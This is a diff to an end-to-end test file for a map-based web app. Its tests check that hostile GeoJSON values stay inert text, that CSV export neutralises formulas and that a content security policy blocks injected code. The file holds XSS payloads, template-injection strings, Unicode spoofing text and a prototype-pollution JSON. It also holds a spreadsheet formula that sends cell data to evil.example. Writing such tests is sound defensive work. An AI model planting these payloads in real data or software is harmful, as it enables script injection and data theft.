@@ -2,22 +2,90 @@ import { expect } from 'vitest'
 import { test } from './driver'
 import { collection, pole } from './given'
 
-const hostile = '<img src=x onerror="document.title=\'caught\'"><script>document.title="caught"</script><b class="caught">'
+/** What would show if any of these were ever more than text. */
+const mark = "document.title='caught';document.body.className='caught'"
+const hostile = {
+  image: `<img src=x onerror="${mark}"><b class="caught">`,
+  svg: `<svg onload="${mark}"><script>${mark}</script></svg>`,
+  script: `"><script>${mark}</script>`,
+  address: `javascript:${mark}`,
+  template: `\${${mark}}{{constructor.constructor("${mark}")()}}`,
+  rightToLeft: 'Cột \u202egnudnol 7\u202c\u2066 moc.live\u2069',
+  nul: 'Cột\u0000 A\u0007\u001b[31m',
+  long: 'Dài '.repeat(25_000),
+  oneWord: 'W'.repeat(100_000),
+  formula: '=HYPERLINK("https://evil.example/?"&A1,"xem")',
+  zalgo: `C${'\u0300\u0323'.repeat(200)}ột`,
+  remote: 'https://evil.example/pixel.png',
+} as const
 
-test('hostile text in names, ids, headings and values stays text', async ({ app }) => {
-  await app.openSample()
-  const odd = { type: 'Feature', id: hostile, geometry: { type: 'Point', coordinates: [hostile, 15.1] }, properties: { kind: 'pole', name: hostile, status: hostile, [hostile]: hostile } }
-  await app.drop({ name: `${hostile.replaceAll('/', '')}.geojson`, text: collection([pole(`A ${hostile}`, 108.8, 15.1, { name: hostile, status: hostile }), odd]) })
-  expect(await app.projectName()).toContain('<img src=x')
-  expect((await app.findings()).map(({ text }) => text).join('\n')).toContain('<img src=x')
-  expect(await app.hasElement('main img, main script, main b.caught')).toBe(false)
-  expect(await app.saidOnScreen()).not.toMatch(/^caught/)
+const objects = Object.entries(hostile).map(([name, text], i) => pole(name, 108.8 + i * 2e-4, 15.12, {
+  name: text, code: text.slice(0, 60), owner: text.slice(0, 80), street: text, note: text, status: text.slice(0, 40), photo: text, [text.slice(0, 50)]: text,
+}))
+/** With heights that stand out, so that findings speak of them. */
+const file = { name: `${hostile.image.replaceAll('/', '')}.geojson`, text: collection([...objects, pole(`A ${hostile.image}`, 108.8, 15.121, { name: hostile.image, heightM: 900, status: hostile.svg })]) }
+const strange = 'img[src="x"], main script, b.caught, svg[onload], iframe, object, embed, a[href^="javascript:"], img[src^="http"], body.caught'
+
+test('hostile names stay text on the map, in the table, findings, search, panel, legend and dialogs; nothing runs, nothing is asked of anybody', async ({ app }) => {
+  await app.begin()
+  await app.opening.drop(file)
+  if (await app.opening.isAsked()) {
+    expect(await app.whole.hasElement(strange)).toBe(false)
+    expect(await app.whole.tooWide()).toEqual([])
+    await app.opening.take('project')
+  }
+  await app.opening.isOver()
+  const still = async (where: string) => {
+    expect(await app.whole.hasElement(strange), where).toBe(false)
+    expect(await app.whole.title(), where).not.toBe('caught')
+    expect(await app.whole.tooWide(), where).toEqual([])
+  }
+  await still('opened')
+  await app.table.open()
+  await still('table')
+  expect(await app.table.text()).toContain('<img src=x')
+  for (const name of ['image', 'long', 'oneWord', 'rightToLeft', 'zalgo'] as const) {
+    await app.map.goTo(name)
+    await still(`selected ${name}`)
+  }
+  await app.findings.open()
+  await still('findings')
+  await app.search.for('<img')
+  await still('search')
+  await app.search.leave()
+  await app.projects.openList()
+  await still('projects')
+  await app.projects.closeList()
+  for (const [width, height] of [[820, 1180], [390, 844]] as const) {
+    await app.resize(width, height)
+    await still(`${width}`)
+  }
+})
+
+test('hostile values leave in a file for a spreadsheet as text, never as a formula', async ({ app }) => {
+  await app.begin()
+  await app.opening.open(file)
+  await app.table.open()
+  const csv = await app.table.download()
+  expect(csv).toContain('HYPERLINK')
+  for (const cell of csv.split(/[;,\n](?=(?:[^"]*"[^"]*")*[^"]*$)/)) expect(cell.replace(/^\ufeff?"?/, '')).not.toMatch(/^[=@+]|^-(?!\d)/)
 })
 
 test('a __proto__ key leaves every other object as it was', async ({ app }) => {
-  await app.openSample()
-  await app.drop({ name: 'pole.geojson', text: '{"type":"FeatureCollection","__proto__":{"caught":1},"features":[{"type":"Feature","id":"P1","__proto__":{"caught":1},"geometry":{"type":"Point","coordinates":[108.8,15.1]},"properties":{"kind":"pole","__proto__":{"caught":1},"constructor":{"prototype":{"caught":1}}}}]}' })
-  expect(await app.pollution()).toEqual([])
-  expect(await app.counts()).toEqual({ pole: 1 })
-  expect(await app.findings()).toContainEqual(expect.objectContaining({ rule: 'load.protoKey' }))
+  await app.begin()
+  await app.opening.open({ name: 'pole.geojson', text: '{"type":"FeatureCollection","__proto__":{"caught":1},"features":[{"type":"Feature","id":"P1","__proto__":{"caught":1},"geometry":{"type":"Point","coordinates":[108.8,15.1]},"properties":{"kind":"pole","__proto__":{"caught":1},"constructor":{"prototype":{"caught":1}}}}]}' })
+  expect(await app.whole.pollution()).toEqual([])
+  expect((await app.layers.counts()).pole).toBe(1)
+  await app.findings.open()
+  expect((await app.findings.groups()).map(({ rule }) => rule)).toContain('load.protoKey')
+})
+
+test('markup that any part of the page tries to make of text stays text, and code from elsewhere is refused', async ({ app }) => {
+  await app.begin()
+  expect(await app.whole.makeOf('<img src=x onerror="document.title=1">')).toEqual({ elements: 0, text: '<img src=x onerror="document.title=1">' })
+  app.expectFault(/refused by the policy|Content Security Policy/)
+  expect(await app.whole.refuses('script')).toBe(true)
+  expect(await app.whole.refuses('worker')).toBe(true)
+  expect(await app.whole.refuses('style')).toBe(true)
+  expect(await app.whole.refuses('eval')).toBe(true)
 })
